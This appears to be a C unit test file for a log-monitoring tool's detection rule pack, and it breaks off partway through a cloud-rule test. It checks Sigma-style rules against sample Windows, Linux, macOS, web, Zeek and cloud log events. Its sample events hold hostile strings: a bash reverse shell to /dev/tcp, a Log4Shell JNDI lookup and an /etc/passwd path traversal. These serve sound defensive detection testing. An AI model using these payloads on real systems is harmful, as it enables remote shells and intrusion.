/*
 * Unit tests for the default rule pack in share/rules and the offline
 * rule commands.  Every rule file NAME.yml has sample raw shipper events
 * in share/rules/samples: NAME.match.ndjson, every event of which a
 * detection rule of the file must report (for a correlation: the stream
 * must make it fire), and NAME.nomatch.ndjson, which must make no rule of
 * the file report.  Run from the repository root.
 */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <cmocka.h>

#include <jansson.h>

#include "auditd.h"
#include "correlate.h"
#include "decoder.h"
#include "rules_cli.h"
#include "sigma.h"

#define RULES	"share/rules"
#define SEC	1000000LL

static const char *const pack[] = {
	"ssh_brute_force", "ssh_success_after_brute_force",
	"password_spraying", "port_scan", "root_login", "sudo_unusual_user",
	"new_listening_service", "auditd_promiscuous", "web_auth_brute_force",
	"stale_timestamp", "ward_errors", "new_local_user",
};

struct tally {
	const char	*file;		/* count reports of rules in this file */
	size_t		 n;
	int64_t		 lastid;
	int		 per_event;	/* this event was reported */
};

static void
count(void *arg, const struct rule_match *m)
{
	struct tally *t = arg;

	if (strcmp(m->rule->file, t->file) != 0)
		return;
	t->n++;
	t->per_event = 1;
}

static void
show_error(void *arg, const struct rule_error *e)
{
	fprintf(stderr, "%s:%u: %s\n", e->file, e->line, e->msg);
}

/* The pack as the hub loads it: the shipped mappings first. */
static struct ruleset *
load_pack(void)
{
	const char *paths[] = { "share/mappings", RULES };
	struct ruleset *rs;
	size_t nerr;

	rs = ruleset_load(paths, 2, show_error, NULL, &nerr);
	assert_non_null(rs);
	assert_int_equal(nerr, 0);
	return rs;
}

/* Feed a sample file; returns the number of events, fills t. */
static size_t
feed_file(struct correlator *c, const char *path, struct tally *t,
    int every, int64_t *last_rcv)
{
	FILE *f = fopen(path, "r");
	char line[8192];
	size_t nev = 0;
	json_t *ev;
	int64_t rcv;

	if (f == NULL)
		fail_msg("%s: missing sample file", path);
	while (fgets(line, sizeof(line), f) != NULL) {
		if ((ev = json_loads(line, 0, NULL)) == NULL)
			fail_msg("%s:%zu: not JSON", path, nev + 1);
		assert_int_equal(rules_cli_replay(ev, 0, &rcv), 0);
		t->per_event = 0;
		assert_true(correlator_feed(c, ev, (int64_t)++nev, rcv, count,
		    t) >= 0);
		if (every && !t->per_event)
			fail_msg("%s:%zu: no rule of %s reported this event",
			    path, nev, t->file);
		if (last_rcv != NULL)
			*last_rcv = rcv;
		json_decref(ev);
	}
	fclose(f);
	return nev;
}

static void
pack_loads_clean(void **state)
{
	struct ruleset *rs = load_pack();

	assert_true(ruleset_count(rs) >= 12);
	ruleset_free(rs);
}

static void
samples_match_and_do_not_match(void **state)
{
	struct ruleset *rs = load_pack();
	struct correlator *c;
	struct tally t;
	char file[256], path[256];
	size_t i, k, nev;
	int detection;

	for (i = 0; i < sizeof(pack) / sizeof(*pack); i++) {
		snprintf(file, sizeof(file), RULES "/%s.yml", pack[i]);
		/* is what reports in this file a plain detection? */
		detection = 0;
		for (k = 0; k < ruleset_count(rs); k++) {
			const struct rule *r = ruleset_rule(rs, k);

			if (strcmp(r->file, file) == 0 && r->emit &&
			    r->kind == RULE_DETECTION)
				detection = 1;
		}
		memset(&t, 0, sizeof(t));
		t.file = file;
		c = correlator_new(rs);
		snprintf(path, sizeof(path), RULES "/samples/%s.match.ndjson",
		    pack[i]);
		nev = feed_file(c, path, &t, detection, NULL);
		assert_true(nev > 0);
		if (t.n == 0)
			fail_msg("%s: the events that must match did not",
			    pack[i]);
		correlator_free(c);

		memset(&t, 0, sizeof(t));
		t.file = file;
		c = correlator_new(rs);
		snprintf(path, sizeof(path), RULES
		    "/samples/%s.nomatch.ndjson", pack[i]);
		nev = feed_file(c, path, &t, 0, NULL);
		assert_true(nev > 0);
		if (t.n != 0)
			fail_msg("%s: %zu reports on events that must not "
			    "match", pack[i], t.n);
		correlator_free(c);
	}
	ruleset_free(rs);
}

static void
quiet_host_deadman(void **state)
{
	struct ruleset *rs = load_pack();
	struct correlator *c;
	struct tally t;
	int64_t last = 0;

	memset(&t, 0, sizeof(t));
	t.file = RULES "/quiet_host.yml";
	c = correlator_new(rs);
	feed_file(c, RULES "/samples/quiet_host.match.ndjson", &t, 0, &last);
	assert_int_equal(t.n, 0);
	correlator_tick(c, last + 599 * SEC, count, &t);
	assert_int_equal(t.n, 0);
	correlator_tick(c, last + 600 * SEC, count, &t);
	assert_int_equal(t.n, 1);
	correlator_free(c);

	/* events without a host never arm it */
	memset(&t, 0, sizeof(t));
	t.file = RULES "/quiet_host.yml";
	c = correlator_new(rs);
	feed_file(c, RULES "/samples/quiet_host.nomatch.ndjson", &t, 0,
	    &last);
	correlator_tick(c, last + 86400 * SEC, count, &t);
	assert_int_equal(t.n, 0);
	correlator_free(c);
	ruleset_free(rs);
}

/* Run fn with standard output and error sent to files; returns its
   result. */
static int
quietly(int (*fn)(int, char **), int argc, char **argv, char *err,
    size_t errsz)
{
	char outp[] = "/tmp/ward-rp-out.XXXXXX", errp[] = "/tmp/ward-rp-err.XXXXXX";
	int o, e, so, se, rc;
	ssize_t n;

	fflush(stdout);
	fflush(stderr);
	o = mkstemp(outp);
	e = mkstemp(errp);
	assert_true(o >= 0 && e >= 0);
	so = dup(1);
	se = dup(2);
	dup2(o, 1);
	dup2(e, 2);
	rc = fn(argc, argv);
	fflush(stdout);
	fflush(stderr);
	dup2(so, 1);
	dup2(se, 2);
	close(so);
	close(se);
	lseek(e, 0, SEEK_SET);
	n = read(e, err, errsz - 1);
	err[n > 0 ? n : 0] = '\0';
	close(o);
	close(e);
	unlink(outp);
	unlink(errp);
	return rc;
}

static void
check_command(void **state)
{
	char dir[] = "/tmp/ward-rp.XXXXXX", bad[300], err[4096];
	char *ok_argv[] = { "check", RULES, NULL };
	char *bad_argv[] = { "check", RULES, bad, NULL };
	FILE *f;

	assert_non_null(mkdtemp(dir));
	snprintf(bad, sizeof(bad), "%s/broken.yml", dir);
	f = fopen(bad, "w");
	assert_non_null(f);
	fputs("title: broken\ndetection:\n  sel:\n    a|bogus: 1\n"
	    "  condition: sel\n", f);
	fclose(f);
	assert_int_equal(quietly(rules_cli_check, 2, ok_argv, err,
	    sizeof(err)), 0);
	assert_int_equal(quietly(rules_cli_check, 3, bad_argv, err,
	    sizeof(err)), 1);
	assert_non_null(strstr(err, "broken.yml:4: unknown or unsupported "
	    "modifier 'bogus'"));
	unlink(bad);
	rmdir(dir);
}

static void
test_command(void **state)
{
	char err[8192];
	char *match[] = { "test", RULES "/root_login.yml",
	    RULES "/samples/root_login.match.ndjson", NULL };
	char *none[] = { "test", RULES "/root_login.yml",
	    RULES "/samples/root_login.nomatch.ndjson", NULL };
	char *corr[] = { "test", RULES "/password_spraying.yml",
	    RULES "/samples/password_spraying.match.ndjson", NULL };
	char *broken[] = { "test", "/nonexistent/rule.yml",
	    RULES "/samples/root_login.match.ndjson", NULL };

	assert_int_equal(quietly(rules_cli_test, 3, match, err, sizeof(err)),
	    0);
	assert_non_null(strstr(err, "root_login.match.ndjson:1: Root login"));
	assert_int_equal(quietly(rules_cli_test, 3, none, err, sizeof(err)),
	    1);
	/* a rule whose base rule lives in another file of the pack */
	assert_int_equal(quietly(rules_cli_test, 3, corr, err, sizeof(err)),
	    0);
	assert_int_equal(quietly(rules_cli_test, 3, broken, err, sizeof(err)),
	    2);
}

/*
 * Rules written as SigmaHQ writes them, with the shipped mappings
 * (share/mappings), on Windows events as NXLog ships them (EventData
 * flat) and as Winlogbeat does (winlog.event_data): how many rules of
 * the text fire on the raw shipper event ev.
 */
static size_t fires_as(const char *rules, const char *ev, int parse);

static size_t
fires(const char *rules, const char *ev)
{
	return fires_as(rules, ev, 0);
}

/*
 * The same on ev as the hub stores it when parse is set: normalized,
 * then an audit record in its summary read by the auditd parser, then
 * the decoders of share/parsers (what wardd rules test leaves out).
 */
static size_t
fires_as(const char *rules, const char *ev, int parse)
{
	char path[] = "/tmp/ward-rulepack-XXXXXX", err[256];
	const char *parsers[] = { "share/parsers" };
	struct decoder_scratch *ds;
	struct decoders *dec;
	const char *sum;
	const char *paths[] = { "share/mappings", path };
	struct sigma_scratch *s;
	struct ruleset *rs;
	const size_t *hits;
	json_error_t je;
	json_t *j;
	int64_t rcv;
	size_t nerr, n;
	int fd;

	assert_true((fd = mkstemp(path)) >= 0);
	assert_int_equal(write(fd, rules, strlen(rules)), (ssize_t)strlen(rules));
	close(fd);
	rs = ruleset_load(paths, 2, show_error, NULL, &nerr);
	unlink(path);
	assert_non_null(rs);
	assert_int_equal(nerr, 0);
	assert_non_null(s = sigma_scratch_new(rs));
	if ((j = json_loads(ev, 0, &je)) == NULL)
		fail_msg("bad test event: %s", je.text);
	assert_int_equal(rules_cli_replay(j, 1795773600000000LL, &rcv), 0);
	if (parse) {
		if ((sum = json_string_value(json_object_get(j, "summary"))) !=
		    NULL)
			assert_true(auditd_apply(j, sum, strlen(sum)) >= 0);
		if ((dec = decoders_load(parsers, 1, err, sizeof(err))) == NULL)
			fail_msg("share/parsers: %s", err);
		assert_non_null(ds = decoder_scratch_new());
		assert_true(decoders_apply(dec, j, ds) >= 0);
		decoder_scratch_free(ds);
		decoders_free(dec);
	}
	n = sigma_match(rs, s, j, &hits);
	json_decref(j);
	sigma_scratch_free(s);
	ruleset_free(rs);
	return n;
}

static void
windows_rules_on_shipper_shapes(void **state)
{
	const char *proc = "title: Whoami via cmd\nid: 8d3f0b61-0000-4000-"
	    "8000-000000000001\nstatus: test\nregression_tests_path: x/y.yml\n"
	    "logsource:\n  category: process_creation\n  product: windows\n"
	    "detection:\n  selection_img:\n    - Image|endswith: '\\cmd.exe'\n"
	    "    - OriginalFileName: 'Cmd.Exe'\n  selection_cli:\n"
	    "    CommandLine|contains|windash: ' /c whoami'\n"
	    "  condition: all of selection_*\nlevel: medium\n";
	const char *logon = "title: Failed logon of admin\nid: 8d3f0b61-0000-"
	    "4000-8000-000000000002\nlogsource:\n  product: windows\n"
	    "  service: security\ndetection:\n  selection:\n"
	    "    EventID: 4625\n    TargetUserName|startswith: adm\n"
	    "  condition: selection\nlevel: low\n";
	const char *nxlog = "{\"EventTime\": \"2026-12-07 10:00:00\", "
	    "\"Hostname\": \"ws1\", \"SourceName\": \"Microsoft-Windows-"
	    "Sysmon\", \"Channel\": \"Microsoft-Windows-Sysmon/Operational\", "
	    "\"EventID\": %d, \"Image\": \"C:\\\\Windows\\\\System32\\\\"
	    "cmd.exe\", \"CommandLine\": \"cmd.exe %s whoami\"}";
	const char *beat = "{\"@timestamp\": \"2026-12-07T10:00:00Z\", "
	    "\"host\": {\"name\": \"ws1\"}, \"winlog\": {\"channel\": "
	    "\"Microsoft-Windows-Sysmon/Operational\", \"event_id\": 1, "
	    "\"provider_name\": \"Microsoft-Windows-Sysmon\", \"event_data\": "
	    "{\"Image\": \"C:\\\\Windows\\\\System32\\\\cmd.exe\", "
	    "\"CommandLine\": \"cmd.exe /c whoami\"}}}";
	char ev[1024];

	snprintf(ev, sizeof(ev), nxlog, 1, "/c");
	assert_int_equal(fires(proc, ev), 1);
	snprintf(ev, sizeof(ev), nxlog, 1, "-c");	/* windash */
	assert_int_equal(fires(proc, ev), 1);
	snprintf(ev, sizeof(ev), nxlog, 1, "/k");
	assert_int_equal(fires(proc, ev), 0);
	/* a network connection (Sysmon 3) is not a process creation */
	snprintf(ev, sizeof(ev), nxlog, 3, "/c");
	assert_int_equal(fires(proc, ev), 0);
	assert_int_equal(fires(proc, beat), 1);
	/* Security 4688 names the image NewProcessName */
	assert_int_equal(fires(proc, "{\"Hostname\": \"dc1\", \"Channel\": "
	    "\"Security\", \"EventID\": 4688, \"NewProcessName\": "
	    "\"C:\\\\Windows\\\\System32\\\\cmd.exe\", \"CommandLine\": "
	    "\"cmd /c whoami\"}"), 1);
	assert_int_equal(fires(logon, "{\"Hostname\": \"dc1\", \"Channel\": "
	    "\"Security\", \"EventID\": 4625, \"TargetUserName\": "
	    "\"Administrator\"}"), 1);
	assert_int_equal(fires(logon, "{\"winlog\": {\"channel\": "
	    "\"Security\", \"event_id\": 4625, \"event_data\": "
	    "{\"TargetUserName\": \"admin\"}}}"), 1);
	/* the same event id in the System log is another event */
	assert_int_equal(fires(logon, "{\"Hostname\": \"dc1\", \"Channel\": "
	    "\"System\", \"EventID\": 4625, \"TargetUserName\": "
	    "\"Administrator\"}"), 0);
}

/* Windows events a Linux, macOS or web rule's detection would match:
   the logsource must keep those rules off them. */
static const char win_nxlog[] = "{\"Hostname\": \"ws1\", \"SourceName\": "
    "\"Microsoft-Windows-Sysmon\", \"Channel\": \"Microsoft-Windows-Sysmon/"
    "Operational\", \"EventID\": 1, \"Image\": \"C:/Program Files/Git/usr/"
    "bin/base64\", \"CommandLine\": \"base64 -d payload.txt\", \"type\": "
    "\"SYSCALL\", \"serial\": 1, \"exe\": \"/usr/bin/nc\", \"Message\": "
    "\"error in libcrypto ${jndi:ldap://x/a}\"}";
static const char win_beat[] = "{\"host\": {\"name\": \"ws1\"}, "
    "\"message\": \"error in libcrypto ${jndi:ldap://x/a}\", \"winlog\": "
    "{\"channel\": \"Microsoft-Windows-Sysmon/Operational\", \"event_id\": "
    "1, \"event_data\": {\"Image\": \"C:/msys64/usr/bin/base64\", "
    "\"CommandLine\": \"base64 -d payload.txt\"}}}";

/*
 * Linux rules as SigmaHQ writes them, with the shipped mappings, on each
 * shape share/mappings/linux.yml documents: they fire there, and not on
 * Windows or macOS events, nor on Linux events of another kind, that
 * their detection alone would match.
 */
static void
linux_rules_on_shipper_shapes(void **state)
{
	const char *cmdline = "title: Base64 decode\nid: 8d3f0b61-0000-4000-"
	    "8000-000000000011\nlogsource:\n  product: linux\n  category: "
	    "process_creation\ndetection:\n  selection:\n    CommandLine|"
	    "contains: 'base64 -d'\n  condition: selection\nlevel: low\n";
	const char *image = "title: Base64 run\nid: 8d3f0b61-0000-4000-8000-"
	    "000000000012\nlogsource:\n  product: linux\n  category: "
	    "process_creation\ndetection:\n  selection:\n    Image|endswith: "
	    "'/base64'\n  condition: selection\nlevel: low\n";
	const char *audit = "title: Netcat syscall\nid: 8d3f0b61-0000-4000-"
	    "8000-000000000013\nlogsource:\n  product: linux\n  service: "
	    "auditd\ndetection:\n  selection:\n    type: SYSCALL\n    exe|"
	    "endswith: '/nc'\n  condition: selection\nlevel: low\n";
	const char *sshd = "title: libcrypto error\nid: 8d3f0b61-0000-4000-"
	    "8000-000000000014\nlogsource:\n  product: linux\n  service: "
	    "sshd\ndetection:\n  keywords:\n    - 'error in libcrypto'\n"
	    "  condition: keywords\nlevel: low\n";
	const char *cron = "title: crontab replaced\nid: 8d3f0b61-0000-4000-"
	    "8000-000000000015\nlogsource:\n  product: linux\n  service: "
	    "cron\ndetection:\n  keywords:\n    - 'REPLACE'\n"
	    "  condition: keywords\nlevel: low\n";
	const char *any = "title: dev tcp\nid: 8d3f0b61-0000-4000-8000-"
	    "000000000016\nlogsource:\n  product: linux\ndetection:\n"
	    "  keywords:\n    - '/dev/tcp/'\n  condition: keywords\n"
	    "level: low\n";
	/* ward's auditd parser: EXECVE gives the command, SYSCALL the exe */
	const char *execve = "{\"host\": \"srv1\", \"message\": \"type=EXECVE "
	    "msg=audit(1764237600.123:42): argc=3 a0=\\\"base64\\\" "
	    "a1=\\\"-d\\\" a2=\\\"payload.txt\\\"\"}";
	const char *syscall = "{\"host\": \"srv1\", \"message\": \"type=SYSCALL "
	    "msg=audit(1764237600.123:42): arch=c000003e syscall=59 "
	    "success=yes exit=0 ppid=1 pid=4242 auid=1000 uid=0 "
	    "comm=\\\"base64\\\" exe=\\\"/usr/bin/base64\\\" key=\\\"exec\\\"\"}";
	const char *aarch = "{\"host\": \"srv1\", \"message\": \"type=SYSCALL "
	    "msg=audit(1764237600.123:43): arch=c00000b7 syscall=221 "
	    "success=yes exit=0 comm=\\\"base64\\\" exe=\\\"/usr/bin/base64\\\"\"}";
	/* open(2) by the same program is no process creation */
	const char *open = "{\"host\": \"srv1\", \"message\": \"type=SYSCALL "
	    "msg=audit(1764237600.123:44): arch=c000003e syscall=2 "
	    "success=yes exit=3 comm=\\\"base64\\\" exe=\\\"/usr/bin/base64\\\"\"}";
	const char *nc = "{\"host\": \"srv1\", \"message\": \"type=SYSCALL "
	    "msg=audit(1764237600.123:45): arch=c000003e syscall=42 "
	    "success=yes exit=0 comm=\\\"nc\\\" exe=\\\"/usr/bin/nc\\\"\"}";
	const char *sysmon = "{\"Hostname\": \"srv1\", \"Channel\": "
	    "\"Linux-Sysmon/Operational\", \"EventID\": 1, \"Image\": "
	    "\"/usr/bin/base64\", \"CommandLine\": \"base64 -d payload.txt\"}";
	const char *ecs = "{\"@timestamp\": \"2026-12-07T10:00:00Z\", "
	    "\"host\": {\"name\": \"srv1\", \"os\": {\"type\": \"linux\"}}, "
	    "\"event\": {\"category\": [\"process\"], \"type\": [\"start\"]}, "
	    "\"process\": {\"name\": \"base64\", \"executable\": "
	    "\"/usr/bin/base64\", \"command_line\": \"base64 -d payload.txt\"}}";
	const char *beat = "{\"host\": {\"name\": \"srv1\"}, \"auditd\": "
	    "{\"message_type\": \"syscall\", \"sequence\": 9, \"data\": "
	    "{\"syscall\": \"execve\"}}, \"process\": {\"name\": \"base64\", "
	    "\"executable\": \"/usr/bin/base64\", \"args\": [\"base64\", "
	    "\"-d\"]}}";
	const char *beatnc = "{\"host\": {\"name\": \"srv1\"}, \"auditd\": "
	    "{\"message_type\": \"syscall\", \"data\": {\"syscall\": "
	    "\"connect\"}}, \"process\": {\"executable\": \"/usr/bin/nc\"}}";
	const char *mac = "{\"host\": {\"name\": \"mac1\", \"os\": {\"type\": "
	    "\"macos\", \"family\": \"darwin\"}}, \"event\": {\"category\": "
	    "[\"process\"], \"type\": [\"start\"]}, \"process\": "
	    "{\"executable\": \"/usr/bin/base64\", \"command_line\": "
	    "\"base64 -d payload.txt\"}}";
	/* an application's own JSON that happens to say type and exe */
	const char *app = "{\"program\": \"myapp\", \"type\": \"SYSCALL\", "
	    "\"exe\": \"/usr/bin/nc\", \"message\": \"spawned\"}";

	assert_int_equal(fires_as(cmdline, execve, 1), 1);
	assert_int_equal(fires(cmdline, sysmon), 1);
	assert_int_equal(fires(cmdline, ecs), 1);
	assert_int_equal(fires_as(image, syscall, 1), 1);
	assert_int_equal(fires_as(image, aarch, 1), 1);
	assert_int_equal(fires(image, sysmon), 1);
	assert_int_equal(fires(image, ecs), 1);
	assert_int_equal(fires(image, beat), 1);
	assert_int_equal(fires_as(image, open, 1), 0);
	assert_int_equal(fires(image, mac), 0);
	assert_int_equal(fires(cmdline, mac), 0);
	assert_int_equal(fires(cmdline, win_nxlog), 0);
	assert_int_equal(fires(cmdline, win_beat), 0);
	assert_int_equal(fires(image, win_nxlog), 0);
	assert_int_equal(fires(image, win_beat), 0);

	assert_int_equal(fires_as(audit, nc, 1), 1);
	assert_int_equal(fires(audit, beatnc), 1);
	assert_int_equal(fires(audit, app), 0);
	assert_int_equal(fires(audit, win_nxlog), 0);

	/* sshd by any of its names, from rsyslog and from journald */
	assert_int_equal(fires(sshd, "{\"program\": \"sshd\", \"message\": "
	    "\"fatal: error in libcrypto\"}"), 1);
	assert_int_equal(fires(sshd, "{\"SYSLOG_IDENTIFIER\": \"sshd-session\","
	    " \"MESSAGE\": \"error in libcrypto\"}"), 1);
	assert_int_equal(fires(sshd, "{\"program\": \"cron\", \"message\": "
	    "\"error in libcrypto\"}"), 0);
	/* Windows' OpenSSH, shipped by NXLog, calls itself sshd too */
	assert_int_equal(fires(sshd, "{\"SourceName\": \"sshd\", \"Channel\": "
	    "\"OpenSSH/Operational\", \"EventID\": 4, \"Message\": "
	    "\"sshd: error in libcrypto\"}"), 0);
	assert_int_equal(fires(sshd, win_nxlog), 0);
	assert_int_equal(fires(cron, "{\"program\": \"crontab\", \"message\": "
	    "\"(root) REPLACE (root)\"}"), 1);
	assert_int_equal(fires(cron, "{\"program\": \"sshd\", \"message\": "
	    "\"(root) REPLACE (root)\"}"), 0);

	/* any Linux log: a bare line, a syslog line; no Windows event */
	assert_int_equal(fires(any, "{\"message\": \"bash -i >& /dev/tcp/"
	    "192.0.2.1/4444 0>&1\"}"), 1);
	assert_int_equal(fires(any, "{\"program\": \"bash\", \"facility\": "
	    "\"user\", \"message\": \"exec 5<>/dev/tcp/192.0.2.1/80\"}"), 1);
	assert_int_equal(fires(any, "{\"Hostname\": \"ws1\", \"Channel\": "
	    "\"Microsoft-Windows-PowerShell/Operational\", \"EventID\": 4104, "
	    "\"ScriptBlockText\": \"$c = '/dev/tcp/'\"}"), 0);
}

/* macOS rules: on ECS and eslogger shapes, not on Linux's or Windows'. */
static void
macos_rules_on_shipper_shapes(void **state)
{
	const char *osa = "title: osascript\nid: 8d3f0b61-0000-4000-8000-"
	    "000000000021\nlogsource:\n  product: macos\n  category: "
	    "process_creation\ndetection:\n  selection:\n    Image|endswith: "
	    "'/osascript'\n  condition: selection\nlevel: low\n";
	const char *ecs = "{\"host\": {\"name\": \"mac1\", \"os\": {\"type\": "
	    "\"%s\"}}, \"event\": {\"category\": [\"process\"], \"type\": "
	    "[\"start\"]}, \"process\": {\"executable\": \"/usr/bin/osascript\""
	    "}}";
	const char *eslogger = "{\"schema_version\": 1, \"mach_time\": "
	    "123456789, \"event_type\": 9, \"time\": \"2026-12-07T10:00:00Z\", "
	    "\"event\": {\"exec\": {\"target\": {\"executable\": {\"path\": "
	    "\"/usr/bin/osascript\"}}, \"args\": [\"osascript\", \"-e\", "
	    "\"x\"]}}, \"process\": {\"executable\": {\"path\": "
	    "\"/bin/zsh\"}}}";
	char ev[512];

	snprintf(ev, sizeof(ev), ecs, "macos");
	assert_int_equal(fires(osa, ev), 1);
	assert_int_equal(fires(osa, eslogger), 1);
	snprintf(ev, sizeof(ev), ecs, "linux");
	assert_int_equal(fires(osa, ev), 0);
	assert_int_equal(fires(osa, "{\"Channel\": \"Microsoft-Windows-Sysmon/"
	    "Operational\", \"EventID\": 1, \"Image\": \"C:/tools/osascript\", "
	    "\"event\": {\"category\": \"process\", \"type\": \"start\"}}"), 0);
}

/*
 * Web rules: on an access log line as the decoder reads it, as IIS's W3C
 * fields and as ECS; not on Windows events or other programs' lines.
 */
static void
web_rules_on_shipper_shapes(void **state)
{
	const char *uri = "title: passwd in URI\nid: 8d3f0b61-0000-4000-8000-"
	    "000000000031\nlogsource:\n  category: webserver\ndetection:\n"
	    "  selection:\n    cs-uri-query|contains: '/etc/passwd'\n"
	    "  condition: selection\nlevel: low\n";
	const char *jndi = "title: JNDI\nid: 8d3f0b61-0000-4000-8000-"
	    "000000000032\nlogsource:\n  category: webserver\ndetection:\n"
	    "  keywords:\n    - '${jndi:ldap:'\n  condition: keywords\n"
	    "level: low\n";
	const char *proxy = "title: passwd via proxy\nid: 8d3f0b61-0000-4000-"
	    "8000-000000000033\nlogsource:\n  category: proxy\ndetection:\n"
	    "  selection:\n    c-uri|contains: '/etc/passwd'\n"
	    "  condition: selection\nlevel: low\n";
	const char *line = "{\"host\": \"web1\", \"program\": \"%s\", "
	    "\"message\": \"192.0.2.7 - - [07/Dec/2026:10:00:00 +0000] \\\"GET "
	    "/cgi-bin/x?f=../../etc/passwd&u=${jndi:ldap://x/a} HTTP/1.1\\\" "
	    "404 153 \\\"-\\\" \\\"curl/8.5.0\\\"\"}";
	const char *w3c = "{\"Hostname\": \"iis1\", \"SourceModuleName\": "
	    "\"iis\", \"cs-method\": \"GET\", \"cs-uri-stem\": \"/x.aspx\", "
	    "\"cs-uri-query\": \"f=../../etc/passwd\", \"sc-status\": 404, "
	    "\"c-ip\": \"192.0.2.7\"}";
	const char *ecs = "{\"host\": {\"name\": \"web1\"}, \"message\": "
	    "\"GET /x\", \"http\": {\"request\": {\"method\": \"GET\"}, "
	    "\"response\": {\"status_code\": 404}}, \"url\": {\"original\": "
	    "\"/x?f=../../etc/passwd\"}}";
	char ev[512];

	/* parsed by http_access.yml: program names none of the gate's */
	snprintf(ev, sizeof(ev), line, "frontend");
	assert_int_equal(fires_as(uri, ev, 1), 1);
	assert_int_equal(fires_as(jndi, ev, 1), 1);
	assert_int_equal(fires_as(proxy, ev, 1), 1);
	/* not parsed: nginx's own line */
	snprintf(ev, sizeof(ev), line, "nginx");
	assert_int_equal(fires(jndi, ev), 1);
	assert_int_equal(fires(uri, w3c), 1);
	assert_int_equal(fires(uri, ecs), 1);
	assert_int_equal(fires(proxy, ecs), 1);
	/* the same text elsewhere */
	snprintf(ev, sizeof(ev), line, "frontend");
	assert_int_equal(fires(jndi, ev), 0);
	assert_int_equal(fires(jndi, win_nxlog), 0);
	assert_int_equal(fires(jndi, win_beat), 0);
	assert_int_equal(fires(uri, "{\"program\": \"myapp\", \"uri\": "
	    "\"/etc/passwd\", \"message\": \"read\"}"), 0);
}

/* Zeek rules: on Zeek's JSON lines (x509's too), not on an audit record
   whose uid is a user id. */
static void
zeek_rules_on_shipper_shapes(void **state)
{
	const char *dns = "title: DNS TXT to a bad domain\nid: 8d3f0b61-0000-"
	    "4000-8000-000000000041\nlogsource:\n  product: zeek\n  service: "
	    "dns\ndetection:\n  selection:\n    query|endswith: '.evil.example'\n"
	    "  condition: selection\nlevel: low\n";
	const char *x509 = "title: Bad certificate\nid: 8d3f0b61-0000-4000-"
	    "8000-000000000042\nlogsource:\n  product: zeek\n  service: x509\n"
	    "detection:\n  selection:\n    certificate.serial: 8BB00EE\n"
	    "  condition: selection\nlevel: low\n";

	assert_int_equal(fires(dns, "{\"ts\": 1764237600.5, \"uid\": "
	    "\"CHhAvVGS1DHFjwGM9\", \"id.orig_h\": \"10.0.0.5\", \"query\": "
	    "\"a.evil.example\", \"qtype_name\": \"TXT\"}"), 1);
	assert_int_equal(fires(x509, "{\"ts\": 1764237600.5, \"fingerprint\": "
	    "\"ab12\", \"certificate.serial\": \"8BB00EE\"}"), 1);
	assert_int_equal(fires_as(dns, "{\"host\": \"srv1\", \"message\": "
	    "\"type=SYSCALL msg=audit(1764237600.123:46): arch=c000003e "
	    "syscall=42 success=yes exit=0 uid=0 comm=\\\"dig\\\" "
	    "exe=\\\"/usr/bin/dig\\\"\", \"query\": \"a.evil.example\"}", 1), 0);
}

/*
 * A rule for a cloud or identity product: a title and id (N), its
 * logsource lines and one selection.
 */
static char *
cloud_rule(int n, const char *logsource, const char *selection)
{
	static char r[4][512];
	char *p = r[n % 4];

	snprintf(p, sizeof(r[0]), "title: Cloud rule %d\nid: 8d3f0b61-0000-"
	    "4000-8000-0000000005%02d\nlogsource:\n%sdetection:\n"
	    "  selection:\n%s  condition: selection\nlevel: low\n", n, n,
	    logsource, selection);
	return p;
}

/* Events of other systems that carry the cloud rules' field names. */
static const char cloud_linux[] = "{\"host\": \"srv1\", \"program\": "
    "\"sshd\", \"facility\": \"auth\", \"message\": \"session opened\", "
    "\"eventSource\": \"iam.amazonaws.com\", \"eventName\": "
    "\"CreateAccessKey\", \"eventType\": \"user.mfa.factor.deactivate\", "
    "\"action\": \"repo.destroy\", \"verb\": \"create\", \"objectRef\": "
    "{\"resource\": \"secrets\"}, \"Operation\": \"Set-Mailbox\", "
    "\"operationName\": \"MICROSOFT.KEYVAULT/VAULTS/DELETE\", "
    "\"ResultType\": 50126, \"event_type_id\": 5}";
static const char cloud_windows[] = "{\"Hostname\": \"ws1\", \"Channel\": "
    "\"Security\", \"EventID\": 4624, \"eventSource\": "
    "\"iam.amazonaws.com\", \"eventName\": \"CreateAccessKey\", "
    "\"eventType\": \"user.mfa.factor.deactivate\", \"action\": "
    "\"repo.destroy\", \"verb\": \"create\", \"objectRef\": {\"resource\": "
    "\"secrets\"}, \"Operation\": \"Set-Mailbox\", \"operationName\": "
    "\"MICROSOFT.KEYVAULT/VAULTS/DELETE\", \"ResultType\": 50126, "
    "\"event_type_id\": 5}";
static const char cloud_mozdef[] = "{\"hostname\": \"app1\", \"category\": "
    "\"event\", \"summary\": \"audit\", \"details\": {\"eventSource\": "
    "\"iam.amazonaws.com\", \"eventName\": \"CreateAccessKey\", "
    "\"eventType\": \"user.mfa.factor.deactivate\", \"action\": "
    "\"repo.destroy\", \"verb\": \"create\", \"objectRef\": {\"resource\": "
    "\"secrets\"}, \"Operation\": \"Set-Mailbox\", \"operationName\": "
    "\"MICROSOFT.KEYVAULT/VAULTS/DELETE\", \"ResultType\": 50126, "
    "\"event_type_id\": 5}}";

static void
no_foreign_match(const char *rule)
{
	assert_int_equal(fires(rule, cloud_linux), 0);
	assert_int_equal(fires(rule, cloud_windows), 0);
	assert_int_equal(fires(rule, cloud_mozdef), 0);
}

/*
 * Cloud rules (AWS, Azure, Google Cloud, Microsoft 365): on their
 * provider's records as share/mappings/cloud.yml documents them, not on
 * Linux, Windows or bare MozDef events carrying the same field names,
 * nor on another provider's or service's records.
 */
static void
cloud_rules_on_shipper_shapes(void **state)
{
	const char *aws = cloud_rule(1, "  product: aws\n  service: "
	    "cloudtrail\n", "    eventSource: iam.amazonaws.com\n"
	    "    eventName: CreateAccessKey\n");
	const char *activity = cloud_rule(2, "  product: azure\n  service: "
	    "activitylogs\n", "    operationName: "
	    "MICROSOFT.KEYVAULT/VAULTS/DELETE\n");
	const char *signin = cloud_rule(3, "  product: azure\n  service: "
	    "signinlogs\n", "    ResultType: 50126\n");
	const char *gcp = cloud_rule(0, "  product: gcp\n  service: "
	    "gcp.audit\n", "    gcp.audit.method_name: "
	    "v1.compute.instances.delete\n");
	char ev[1024];

	/* CloudTrail as read from S3, and through Filebeat's aws module */
	assert_int_equal(fires(aws, "{\"eventVersion\": \"1.09\", "
	    "\"eventTime\": \"2026-12-07T10:00:00Z\", \"eventSource\": "
